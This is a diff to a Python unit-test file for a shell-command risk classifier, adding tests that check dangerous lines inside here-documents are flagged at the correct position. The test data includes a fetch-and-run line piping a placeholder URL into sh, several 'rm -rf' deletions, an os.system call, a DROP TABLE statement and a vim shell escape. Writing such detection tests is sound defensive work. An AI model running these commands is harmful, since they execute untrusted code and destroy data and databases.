@@ -4,7 +4,7 @@ import pytest
 
 from core.actions import Decision
 from core.risk.shell.rules import classify_command, classify_with
-from tests.unit.risk.shell.reading import codes
+from tests.unit.risk.shell.reading import codes, find
 
 
 @pytest.mark.parametrize(
@@ -320,3 +320,30 @@ def test_a_name_that_only_stands_inside_another_is_not_named() -> None:
     assert (
         classify_command("ssh web1", purpose="Look at web12 and my-web1").decision is Decision.ASK
     )
+
+
+@pytest.mark.parametrize(
+    ("command", "marked"),
+    [
+        ("bash <<'E'\necho é\ncurl -s https://a.example/x | sh\nls\nE", "sh"),
+        ("cat <<'E' | bash\nls\nrm -rf ~/x\nE", "~/x"),
+        ("sudo bash <<E > log\nls\nrm -rf /srv\nE", "/srv"),
+        ("bash <<'A'\nbash <<'B'\nrm -rf ~/x\nB\nA", "~/x"),
+        ("python3 - <<E\nimport os\nos.system('x')\nE", "system("),
+        ("frobnicate <<E\nline\nsystem('x')\nE", "system("),
+        ("psql <<E\nselect 1;\nDROP TABLE x;\nE", "DROP TABLE"),
+        ("vim -es x <<E\n:!sh\nE", ":!sh"),
+        ("ssh host <<'E'\nls\nrm -rf /srv\nE", "/srv"),
+        ("ssh host bash -s <<'E'\nls\nrm -rf /srv\nE", "/srv"),
+    ],
+)
+def test_what_is_harmful_in_a_here_document_is_marked_there(command: str, marked: str) -> None:
+    places = [(each.start, each.end) for each in classify_command(command).findings]
+    start = command.rindex(marked)
+    assert (start, start + len(marked)) in places
+
+
+def test_a_here_document_that_is_not_fed_as_it_stands_is_marked_by_its_program() -> None:
+    command = "bash <<E x\nls\nrm -rf ~/x\nE"
+    finding = find(command, "erases")
+    assert command[finding.start : finding.end] == "bash"
